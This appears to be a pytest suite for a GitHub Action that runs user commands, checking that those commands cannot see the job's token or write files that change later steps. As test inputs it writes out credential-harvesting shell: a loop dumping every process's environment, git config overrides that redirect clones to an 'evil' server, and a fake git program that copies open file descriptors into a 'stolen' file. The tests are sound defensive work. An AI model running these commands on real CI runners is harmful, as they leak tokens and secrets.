"""User commands can access neither the token nor the files that affect later steps.

The Action removes secrets when its process starts, so these tests don't fork it.
"""

from __future__ import annotations

import os
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from action.runner import secret_variables, user_commands
from tests.action.conftest import Shop
from tests.services.server import LoopbackService, Request

EVERYWHERE = r"""
for folder in /proc/[0-9]*; do
  for file in environ cmdline; do
    tr '\0' '\n' <"$folder/$file" 2>/dev/null | sed "s,^,${folder##*/} $file ,"
  done
done >seen || true
new="-type f -size -200k -newer $RUNNER_TEMP/event.json"
find "$RUNNER_TEMP" "$HOME" $new -exec cat {} + >files 2>/dev/null || true
"""
"""A command that collects all the same user can read: environments and arguments of processes, and new files."""


def test_no_process_and_no_file_shows_the_token(shop: Shop, tmp_path: Path) -> None:
    """On machines like the runners, each process of a user can read the environments of the others."""
    shop.pass_verdict()
    home = tmp_path / "home"
    home.mkdir()
    job = shop.job(environ={"HOME": str(home)}, forked=False)
    done = job.uses(command="deploy", environment="staging", run=EVERYWHERE, rollback_run="true")
    assert done.outcome == "success", done.log
    assert job.workspace is not None
    seen = (job.workspace / "seen").read_text(errors="replace")
    assert " environ GITHUB_REPOSITORY=acme/shop" in seen  # of the command itself: it can read
    assert job.token not in seen
    assert job.token not in (job.workspace / "files").read_text(errors="replace")
    assert job.token not in done.log


def test_the_parent_of_a_command_has_neither_token_nor_files(shop: Shop) -> None:
    shop.pass_verdict()
    job = shop.job(forked=False)
    job.uses(command="deploy", environment="staging", run=r'tr "\0" "\n" <"/proc/$PPID/environ" >parent || true')
    assert job.workspace is not None
    parent = (job.workspace / "parent").read_text()
    names = {line.partition("=")[0] for line in parent.splitlines()}
    assert not names & {*secret_variables.SECRETS, *secret_variables.FILES, *secret_variables.DROPPED}


def test_another_user_than_root_can_not_read_its_memory(shop: Shop) -> None:
    """The kernel denies access to `/proc/PID/mem` and `/proc/PID/environ` of a process that is not dumpable."""
    shop.pass_verdict()
    job = shop.job(forked=False)
    job.uses(command="deploy", environment="staging", run='stat -c %u "/proc/$PPID/environ" >owner; id -u >me')
    assert job.workspace is not None
    assert (job.workspace / "owner").read_text() == "0\n"


@pytest.mark.parametrize("name", ["GITHUB_ENV", "GITHUB_PATH", "GITHUB_STATE", "GITHUB_OUTPUT"])
def test_a_command_writes_to_no_file_of_later_steps(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    file = tmp_path / "file"
    file.touch()
    monkeypatch.setenv(name, str(file))
    assert user_commands.run("title", f'echo "PATH=/evil" >>"${name}"', {}) == 0
    assert file.read_text() == ""


def test_what_a_command_wrote_to_such_a_file_is_dropped(shop: Shop) -> None:
    """A command can still guess where the runner keeps these files."""
    shop.pass_verdict()
    guess = 'for file in "$RUNNER_TEMP"/{env,path,state,output}-*; do echo "tag=v9" >>"$file"; done'
    done = shop.job(forked=False).uses(command="deploy", environment="staging", run=guess)
    assert done.outcome == "success", done.log
    assert done.outputs["tag"] == ""
    assert "A command wrote to a file that changes the job's later steps." in done.log


class Elsewhere(LoopbackService):
    """A third-party server that asks for a password."""

    def answer(self, request: Request) -> tuple[int, Any]:
        self.headers = {"www-authenticate": 'Basic realm="x"'}
        return 401, {}


SETTINGS = {
    "address": '[url "{evil}/"]\n\tinsteadOf = {github}/',
    "proxy": "[http]\n\tproxy = {evil}",
    "hook": "[core]\n\thooksPath = {folder}",
}


@pytest.mark.parametrize("attack", [*SETTINGS, "program"])
def test_git_takes_the_token_to_github_alone(ready: Shop, tmp_path: Path, attack: str) -> None:
    """A command that runs before git leaves settings or a program in places that the user can write to."""
    ready.repo.branch("develop", at="main")
    home, stolen = tmp_path / "home", tmp_path / "stolen"
    (home / "bin").mkdir(parents=True)
    with closing(Elsewhere()) as evil:
        script = (
            f"#!/bin/sh\nfor n in 3 4 5 6 7 8 9 10 11 12 13 14 15; do cat /dev/fd/$n; done >>{stolen} 2>/dev/null\n"
        )
        places = {"evil": evil.url, "github": ready.github.url, "folder": str(home / "bin")}
        text = SETTINGS.get(attack, "").format(**places)
        name = "git" if attack == "program" else "reference-transaction"
        run = f"cat >~/.gitconfig <<'E'\n{text}\nE\ncat >~/bin/{name} <<'E'\n{script}E\nchmod +x ~/bin/{name}"
        environ = {"HOME": str(home), "PATH": f"{home}/bin:{os.environ['PATH']}"}
        job = ready.job(environ=environ)
        done = job.uses(command="ship", **{**ready.inputs(duration="50ms", into="develop"), "run": run})
        asked = [request.headers for request in evil.requests]
    assert done.outcome == "success", done.log
    assert "Opened #2, which brings v1.2.4-hotfix.1 to develop" in done.log
    assert not asked, "the clone was fetched from elsewhere"
    assert not stolen.exists() or ready.token not in stolen.read_text()


def test_what_clouds_need_for_oidc_reaches_the_commands(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("ACTIONS_ID_TOKEN_REQUEST_URL", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "ACTIONS_RUNTIME_TOKEN"):
        monkeypatch.setenv(name, "x")
    found = user_commands.environment({})
    assert {"ACTIONS_ID_TOKEN_REQUEST_URL", "ACTIONS_ID_TOKEN_REQUEST_TOKEN"} <= set(found)
    assert "ACTIONS_RUNTIME_TOKEN" not in found


def test_a_malformed_token_is_refused_at_once(shop: Shop) -> None:
    done = shop.job(token="x" * 70_000, forked=False).uses(command="tag", dry_run="true")
    assert done.status == 1
    assert "The value is too long to be a token." in done.log
